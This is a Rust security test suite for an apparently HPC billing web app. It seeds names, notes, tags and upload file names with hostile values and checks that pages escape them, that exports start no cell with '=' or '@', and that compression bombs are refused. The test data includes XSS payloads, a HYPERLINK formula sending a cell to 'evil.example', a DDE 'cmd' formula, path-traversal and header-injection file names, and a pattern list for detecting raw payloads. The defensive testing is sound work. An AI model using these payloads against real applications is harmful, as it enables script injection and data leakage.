//! Names that somebody chose to do harm: markup, quotes, formulas, ten thousand letters. Every page that can be
//! reached by links is looked at, and every route that shows something is among them.

use std::collections::{BTreeMap, BTreeSet};

use super::support::web::{Reply, Server, Visitor};
use super::support::{CONFIG, HEADER, Home, tags};

const SCRIPT: &str = "\"><script>pwn()</script>";
const IMAGE: &str = "<img src=x onerror=pwn()>";
const QUOTE: &str = "'\" autofocus onfocus=\"pwn()";
const FORMULA: &str = "=HYPERLINK(\"http://evil.example/\"&A1)";
const ADDRESS: &str = "javascript:pwn()";

/// No page may hold one of these as it stands.
const RAW: [&str; 6] = [
    "<script>pwn",
    "<img src=x",
    "\" onfocus=\"pwn",
    "href=\"javascript:",
    "src=\"javascript:",
    "n=\"javascript:",
];

/// No page may be larger (bytes).
const PAGE_MAX: usize = 300_000;

/// Routes that no link of a still installation leads to, and why.
const NOT_LINKED: [(&str, &str); 21] = [
    ("/health", "for programs"),
    ("/metrics", "for programs"),
    ("/assets/{digest}/{name}", "no page"),
    ("/sign-in", "for visitors"),
    ("/sign-in/code", "for who has a second factor"),
    ("/set-up/{link}", "for visitors"),
    ("/jobs/{id}", "of work under way"),
    ("/jobs/{id}/state", "of work under way"),
    ("/changes/{id}", "of a change that is looked at"),
    ("/known", "of forms, by script"),
    ("/palette", "by script"),
    ("/statements/previews/{job}", "of work"),
    ("/statements/previews/{job}/{at}/pdf", "of work"),
    ("/audit/verified/{job}", "of work"),
    ("/verify/{job}", "of work"),
    ("/rates/tried/{id}", "of a change that is looked at"),
    ("/rates/tried/{id}/csv", "of a change that is looked at"),
    ("/imports/uploads/{upload}", "of an upload"),
    ("/imports/uploads/{upload}/{delivery}/problems.csv", "of an upload"),
    ("/imports/{import}/quarantined.csv", "of an import with rows aside"),
    ("/statements/{number}/resources.csv", "of a statement with more resources than its lines show"),
];

fn quoted(text: &str) -> String {
    format!("\"{}\"", text.replace('"', "\"\""))
}

fn line(resource: &str, service: &str, cost: &str, tags: &str) -> String {
    let days = "2025-01-01,2025-01-31,2025-01-01,2025-01-31";
    let (resource, service, tags) = (quoted(resource), quoted(service), quoted(tags));
    format!("{days},{cost},{cost},{cost},{cost},{resource},{resource},{service},{tags}")
}

/// Run a command whose words may hold anything.
fn run(home: &Home, words: &[&str]) {
    let output = home.command("").args(words).output().unwrap();
    let said = String::from_utf8_lossy(&output.stderr).into_owned();
    assert!(output.status.success(), "{words:?}: {said}");
}

/// Upload a file under a name and keep it.
fn keep(reviewer: &mut Visitor, name: &str, rows: &[String]) -> String {
    let bytes = format!("{HEADER}\n{}\n", rows.join("\n"));
    let reply = reviewer.upload("/imports/uploads", &[], &[(name, bytes.as_bytes())]);
    let address = reply.location().to_owned();
    settle(reviewer, &address);
    assert_eq!(reviewer.post(&format!("{address}/0/keep"), &[]).status, 303);
    settle(reviewer, &address);
    address
}

fn settle(visitor: &mut Visitor, address: &str) {
    while visitor.get(address).text().contains("the work goes on") {
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
}

/// All pages that links lead to, each with its size; none may be refused, and none may hold what is raw.
fn walk(visitor: &mut Visitor, more: &[&str]) -> BTreeMap<String, usize> {
    let first = ["/", "/account", "/api/docs", "/import-config"];
    let mut waiting: Vec<String> = first.iter().chain(more).map(|address| (*address).to_owned()).collect();
    let mut asked: BTreeSet<String> = waiting.iter().cloned().collect();
    let mut from: BTreeMap<String, String> = BTreeMap::new();
    let mut sizes = BTreeMap::new();
    let mut wrong = Vec::new();
    while let Some(address) = waiting.pop() {
        let reply = visitor.get(&address);
        let kind = reply.header("content-type").unwrap_or_default().to_owned();
        if reply.status != 200 {
            let words: String = reply.words().chars().take(200).collect();
            wrong.push(format!("{address:.120}, from {:?}: {} {words}", from.get(&address), reply.status));
            continue;
        }
        sizes.insert(address.clone(), reply.body.len());
        if reply.header("x-content-type-options") != Some("nosniff") {
            wrong.push(format!("{address:.120}: a browser may guess what it is"));
        }
        if !kind.starts_with("text/html") {
            let is_shown =
                reply.header("content-disposition").is_none_or(|how| !how.starts_with("attachment"));
            if is_shown
                && !["application/json", "application/pdf", "image/svg"]
                    .iter()
                    .any(|known| kind.starts_with(known))
            {
                wrong.push(format!("{address:.120}: {kind} is shown"));
            }
            continue;
        }
        if PAGE_MAX < reply.body.len() {
            wrong.push(format!("{address:.120}: {} bytes", reply.body.len()));
        }
        let text = reply.text();
        for raw in RAW.iter().filter(|raw| text.contains(**raw)) {
            let at = text.find(raw).unwrap();
            let near: String =
                text[..at].chars().rev().take(120).collect::<Vec<_>>().into_iter().rev().collect();
            wrong.push(format!("{address:.120}: `{raw}` after `{near}`"));
        }
        for link in links(&text).into_iter().filter(|link| asked.len() < 2500 && asked.insert(kind_of(link)))
        {
            from.insert(link.clone(), address.clone());
            waiting.push(link);
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
    sizes
}

/// Where a page leads, within the program.
fn links(text: &str) -> BTreeSet<String> {
    let starts = ["href=\"", "src=\"", "hx-get=\""];
    let found = starts.iter().flat_map(|start| text.split(start).skip(1));
    let inner = found.filter_map(|rest| rest.split('"').next()).filter_map(|link| {
        let link = link.replace("&#38;", "&").replace("&#39;", "'").replace("&amp;", "&");
        let link = link.split('#').next().unwrap_or_default().to_owned();
        (link.starts_with('/') && !link.starts_with("/assets/")).then_some(link)
    });
    inner.collect()
}

/// A sort or a filter of a list is asked once, whatever its value.
fn kind_of(link: &str) -> String {
    let Some((path, query)) = link.split_once('?') else { return link.to_owned() };
    let mut names: Vec<&str> = query.split('&').filter_map(|pair| pair.split('=').next()).collect();
    names.sort_unstable();
    format!("{path}?{}", names.join("&"))
}

fn is_of(address: &str, pattern: &str) -> bool {
    let path = address.split('?').next().unwrap_or_default();
    let (path, pattern): (Vec<&str>, Vec<&str>) = (path.split('/').collect(), pattern.split('/').collect());
    path.len() == pattern.len()
        && path
            .iter()
            .zip(&pattern)
            .all(|(part, known)| part == known || (known.starts_with('{') && !part.is_empty()))
}

/// People and rules of every kind, with names and notes that do harm.
fn rules(home: &Home) {
    run(
        home,
        &[
            "people",
            "add",
            &format!("Ada {SCRIPT}"),
            "ada@example.edu",
            "--also",
            "a.o'hara@example.edu",
            "--note",
            IMAGE,
            "--yes",
        ],
    );
    run(
        home,
        &[
            "attribution",
            "add",
            "--key",
            "resource_id",
            "--value",
            &format!("nobody {QUOTE}"),
            "--project",
            &format!("given {IMAGE}"),
            "--note",
            SCRIPT,
            "--yes",
        ],
    );
    run(
        home,
        &[
            "rates",
            "add",
            "cpu",
            "--service",
            SCRIPT,
            "--unit",
            "core-hour",
            "--price",
            "0.01",
            "--from",
            "2025-01-01",
            "--note",
            IMAGE,
            "--yes",
        ],
    );
    run(
        home,
        &[
            "subsidies",
            "add",
            &format!("College {IMAGE}"),
            "--payer",
            "SCI-1",
            "--percent",
            "10",
            "--from",
            "2025-01",
            "--yes",
        ],
    );
    run(
        home,
        &[
            "credits",
            "add",
            &format!("Credits {SCRIPT}"),
            "--amount",
            "5",
            "--payer",
            "IT-9",
            "--pi",
            "ada@example.edu",
            "--from",
            "2025-01",
            "--yes",
        ],
    );
}

/// January billed, every kind of rule, every name hostile.
fn office() -> (Home, Server) {
    let home = Home::bare();
    let config = CONFIG.replace("name: HPC", &format!("name: \"HPC {IMAGE}\""));
    home.write("config.yaml", format!("{config}review: {{ flag_patterns: [\"^pwn\"] }}\n"));
    home.open("2025-01");
    home.accounts();
    run(&home, &["sources", "add", &format!("Lab {SCRIPT}")]);
    rules(&home);
    let server = home.serve();
    let mut reviewer = server.sign_in("reviewer");
    let good = |project: &str| {
        tags("ada@example.edu", &project.replace('\\', "\\\\").replace('"', "\\\""), "PHYS-101")
    };
    let rows = [
        line(SCRIPT, IMAGE, "10", &good(SCRIPT)),
        line(QUOTE, SCRIPT, "20", &good(&format!("a/b {IMAGE}"))),
        line(ADDRESS, FORMULA, "30", &good(ADDRESS)),
        line("i-4", "Compute", "40", &good(FORMULA)),
        line("i-5", "Compute", "50", &tags(IMAGE, QUOTE.replace('"', "\\\"").as_str(), "PHYS-101")),
        line("pwn", IMAGE, "60", &good("flagged")),
        line("i-7", "Compute", "70", &format!("{{\"{IMAGE}\": \"{ADDRESS}\", \"project_id\": \"looms\"}}")),
    ];
    keep(&mut reviewer, "<img src=x onerror=pwn()>aws_2025-01.csv", &rows);
    keep(&mut reviewer, "\" onfocus=\"pwn() hpc_2025-01.csv", &[line(QUOTE, SCRIPT, "80", &good(IMAGE))]);
    let mut admin = server.sign_in("admin");
    admin.act("/account/name", &[("display_name", &format!("Adm {SCRIPT}"))]);
    admin.act("/periods/2025-01/close", &[("notes", SCRIPT)]);
    admin.act("/periods/2025-01/reopen", &[("reason", IMAGE)]);
    run(&home, &["review", "approve", "--flag", "pattern_match", "--note", SCRIPT, "--yes"]);
    for flag in ["missing_pi_email", "invalid_pi_email"] {
        run(&home, &["review", "reject", "--flag", flag, "--note", IMAGE, "--yes"]);
    }
    admin.act("/periods/2025-01/close", &[("notes", SCRIPT)]);
    run(&home, &["--as", IMAGE, "generate", "--period", "2025-01"]);
    run(&home, &["--as", IMAGE, "send", "--period", "2025-01"]);
    run(&home, &["export-journal", "--period", "2025-01", "--output", "j.csv"]);
    (home, server)
}

#[test]
fn no_page_holds_markup_of_others_or_is_refused_or_large() {
    let (_home, server) = office();
    let mut admin = server.sign_in("admin");
    // By script, of charges that are held; of an import that took the place of another.
    let more = ["/charges/1:5/evidence", "/imports/1/difference"];
    let sizes = walk(&mut admin, &more);
    for path in [
        "/palette?q=pwn",
        "/palette?q=%3Cimg%20src%3Dx",
        "/known",
        "/charges?text=%22%3E%3Cscript%3Epwn()",
        "/none-such/%3Cscript%3Epwn()",
        "/statements/%22%3E%3Cscript%3Epwn()",
        "/sign-in?next=javascript:pwn()",
    ] {
        let reply = admin.get(path);
        let text = reply.text();
        assert!(reply.status < 500 && RAW.iter().all(|raw| !text.contains(raw)), "{path}: {text}");
    }
    let (listed, _) = web::routes().build();
    let reads = listed.iter().filter(|route| route.method == "GET" && !route.path.starts_with("/api/"));
    let unseen: Vec<&str> = reads
        .map(|route| route.path)
        .filter(|path| !NOT_LINKED.iter().any(|(known, _)| known == path))
        .filter(|path| !sizes.keys().any(|address| is_of(address, path)))
        .collect();
    assert!(unseen.is_empty(), "no link leads to {unseen:#?}, of {:#?}", sizes.keys());
}

/// The address of files that were sent and looked at, and what its page says.
fn sent(reviewer: &mut Visitor, files: &[(&str, &[u8])]) -> (String, Reply) {
    let reply = reviewer.upload("/imports/uploads", &[], files);
    assert_eq!(reply.status, 303, "{}", reply.words());
    let address = reply.location().to_owned();
    settle(reviewer, &address);
    let page = reviewer.get(&address);
    (address, page)
}

#[test]
fn names_of_files_are_text_whatever_they_hold() {
    let home = Home::new();
    home.accounts();
    let server = home.serve();
    let mut reviewer = server.sign_in("reviewer");
    let bytes =
        format!("{HEADER}\n{}\n", line("i-1", "Compute", "1", &tags("ada@example.edu", "apollo", "PHYS-1")));
    let long = format!("{}aws_2025-01.csv", "x".repeat(5000));
    let names = [
        "../../../instance/ledger.db",
        "..\\..\\aws_2025-01.csv",
        "/etc/passwd",
        "aws%0d%0aSet-Cookie: a=b.csv",
        "aws\u{202e}vsc.exe",
        "CON",
        "=cmd|' /C calc'!A0.csv",
        long.as_str(),
    ];
    // What no header may hold is refused with all of its form.
    for name in ["aws\u{0}.csv", "aws\r\nX: y.csv"] {
        let reply = reviewer.upload("/imports/uploads", &[], &[(name, bytes.as_bytes())]);
        assert!([400, 422].contains(&reply.status), "{name:?}: {}", reply.status);
    }
    for name in names {
        let (address, page) = sent(&mut reviewer, &[(name, bytes.as_bytes())]);
        assert_eq!(page.status, 200, "{name:.60}: {}", page.words());
        assert!(page.body.len() < PAGE_MAX, "{name:.60}");
        let folder = home.path().join("instance").join(address.trim_start_matches("/imports/"));
        let mut files: Vec<String> = std::fs::read_dir(folder)
            .unwrap()
            .map(|entry| entry.unwrap().file_name().into_string().unwrap())
            .collect();
        files.sort();
        assert!(
            files.iter().all(|file| ["0", "problems-0.csv", "upload.json"].contains(&file.as_str())),
            "{files:?}"
        );
        reviewer.act(&format!("{address}/discard"), &[]);
    }
    // Kept and handed out again under the name that was given, which cannot leave its header.
    let name = "a\"; filename=\"evil.exe aws_2025-01.csv";
    keep(&mut reviewer, name, &[line(FORMULA, FORMULA, "1", &tags("ada@example.edu", "=1+1", "PHYS-1"))]);
    let import = home.json("imports list")[0]["import"].to_string();
    let back = reviewer.get(&format!("/imports/{import}/files/0"));
    let how = back.header("content-disposition").unwrap();
    assert!(how.starts_with("attachment; filename=\"") && how.matches('"').count() == 2, "{how}");
    assert!(back.header("content-type").unwrap().starts_with("application/octet-stream"), "no page of ours");
    for list in ["/charges/export.csv?period=2025-01", "/reports/charges.csv?period=2025-01&by=project"] {
        let text = reviewer.get(list).text();
        assert!(!text.is_empty(), "{list}");
        for cell in text.split([',', '\n']) {
            assert!(!cell.trim_start_matches('"').starts_with(['=', '@']), "{list}: {text}");
        }
    }
}

#[test]
fn bombs_are_refused_packed_in_any_way() {
    let home = Home::with("web: { unpacked_limit_mb: 4 }\n");
    home.accounts();
    let server = home.serve();
    let mut reviewer = server.sign_in("reviewer");
    let row = line("i-1", "Compute", "1", &tags("ada@example.edu", "apollo", "PHYS-1"));
    let text = format!("{HEADER}\n{}", format!("{row}\n").repeat(60_000));
    let zstd = zstd::encode_all(text.as_bytes(), 3).unwrap();
    let mut gzip = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    std::io::Write::write_all(&mut gzip, text.as_bytes()).unwrap();
    let gzip = gzip.finish().unwrap();
    // A second stream behind the first is read too.
    let twice = [&gzip[..], &gzip[..]].concat();
    for (name, bytes) in
        [("aws_2025-01.csv.zst", &zstd), ("aws_2025-01.csv.gz", &gzip), ("aws_2025-01.csv", &twice)]
    {
        assert!(bytes.len() < 500_000, "{name}: {} bytes", bytes.len());
        let (address, page) = sent(&mut reviewer, &[(name, bytes)]);
        let words = page.words();
        assert!(words.contains("more than 4 MB when it is unpacked"), "{name}: {words}");
        assert!(!words.contains("Keep this delivery"), "{name}: {words}");
        assert!(reviewer.post(&format!("{address}/0/keep"), &[]).status >= 400);
    }
    home.assert_nothing_stored();
}

/// Tags, names and services of ten thousand letters, in as many rows as a page shows.
#[test]
fn names_of_ten_thousand_letters_make_no_large_page() {
    let home = Home::with("review: { flag_patterns: [\"^held\"] }\n");
    home.accounts();
    let server = home.serve();
    let mut reviewer = server.sign_in("reviewer");
    let long = |at: usize, name: &str| format!("{name}-{at}-{}", "x".repeat(10_000));
    let rows: Vec<String> = (0..60)
        .map(|at| {
            let resource = long(at, if at % 2 == 0 { "held" } else { "vm" });
            let tags = format!(
                "{{\"pi_email\": \"ada{at}@example.edu\", \"project_id\": \"{}\", \"fund_org\": \"PHYS-{at}\", \"note\": \"{}\"}}",
                long(at, "project"),
                long(at, "note")
            );
            line(&resource, &long(at, "service"), "10", &tags)
        })
        .collect();
    keep(&mut reviewer, &format!("{}aws_2025-01.csv", "x".repeat(150)), &rows);
    home.ok("review approve --flag pattern_match --yes");
    home.ok("review undo --period 2025-01 --yes");
    let mut admin = server.sign_in("admin");
    walk(&mut admin, &["/charges/1:2/evidence"]);
}
